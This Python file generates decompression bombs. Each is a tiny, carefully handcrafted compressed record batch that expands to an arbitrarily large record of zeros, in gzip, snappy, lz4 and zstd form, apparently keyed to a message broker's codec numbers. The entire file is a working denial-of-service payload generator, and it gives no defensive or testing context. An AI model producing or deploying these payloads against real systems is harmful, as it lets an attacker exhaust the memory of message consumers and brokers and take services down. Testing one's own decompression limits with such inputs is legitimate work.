"""Decompression bombs, each of them sound: one record of that many zeros, in the forms of the four codecs. Standard
library only."""

import struct
import zlib


def zigzag(n):
    n = (n << 1) ^ (n >> 63)
    out = b""
    while n >= 0x80:
        out += bytes([n & 0x7F | 0x80])
        n >>= 7
    return out + bytes([n])


def record_of_zeros(size):
    """How a record begins whose value is `size` zeros, and with how many zeros it goes on: no header is one more."""
    body = b"\0\0\0\1" + zigzag(size)
    return zigzag(len(body) + size + 1) + body, size + 1


def gzip(begin, zeros):
    # A whole flush forgets what was before: the same compressed bytes again and again.
    squeeze = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = squeeze.compress(begin) + squeeze.flush(zlib.Z_FULL_FLUSH)
    block = bytes(1 << 20)
    middle = squeeze.compress(block) + squeeze.flush(zlib.Z_FULL_FLUSH)
    last = squeeze.compress(bytes(zeros % len(block))) + squeeze.flush()
    crc = zlib.crc32(begin)
    for _ in range(zeros // len(block)):
        crc = zlib.crc32(block, crc)
    crc = zlib.crc32(bytes(zeros % len(block)), crc)
    head = b"\x1f\x8b\x08\0\0\0\0\0\0\xff"
    tail = struct.pack("<II", crc, (len(begin) + zeros) & 0xFFFFFFFF)
    return head + first + middle * (zeros // len(block)) + last + tail


def zstd(begin, zeros):
    def block(kind, size, content, last=False):
        return struct.pack("<I", size << 3 | kind << 1 | last)[:3] + content

    whole, rest = divmod(zeros, 1 << 17)
    repeated = block(1, 1 << 17, b"\0") * whole
    # A window of 128 KiB, no length, no checksum.
    return b"\x28\xb5\x2f\xfd\x00\x38" + block(0, len(begin), begin) + repeated + block(1, rest, b"\0", last=True)


def lz4(begin, zeros):
    def block(content):
        return struct.pack("<I", len(content)) + content

    def repeat(count):
        """That many zeros: the first and the last five literally, and the one before again and again."""
        length = count - 6 - 4
        return (b"\x1f\0\1\0" + b"\xff" * ((length - 15) // 255) + bytes([(length - 15) % 255]) + b"\x50" + bytes(5))

    stored = struct.pack("<I", len(begin) | 1 << 31) + begin
    whole, rest = divmod(zeros - 64, 2 << 20)
    # Independent blocks of at most 4 MiB, no checksums, no length.
    return (struct.pack("<I", 0x184D2204) + b"\x60\x70\x73" + stored + block(repeat(2 << 20)) * whole +
            block(repeat(rest + 64)) + struct.pack("<I", 0))


def snappy(begin, zeros):
    def varint(n):
        out = b""
        while n >= 0x80:
            out += bytes([n & 0x7F | 0x80])
            n >>= 7
        return out + bytes([n])

    def literal(content):
        return bytes([len(content) - 1 << 2]) + content

    again = bytes([64 - 1 << 2 | 2]) + struct.pack("<H", 1)  # 64 bytes more of what was last.
    whole, rest = divmod(zeros - 1, 64)
    copies = again * whole + (bytes([rest - 1 << 2 | 2]) + struct.pack("<H", 1) if rest else b"")
    return varint(len(begin) + zeros) + literal(begin) + literal(b"\0") + copies


# By the number that a batch's attributes give them.
codecs = {1: gzip, 2: snappy, 3: lz4, 4: zstd}


def bomb(codec, size):
    """The records of a batch with one record of `size` zeros."""
    return codecs[codec](*record_of_zeros(size))
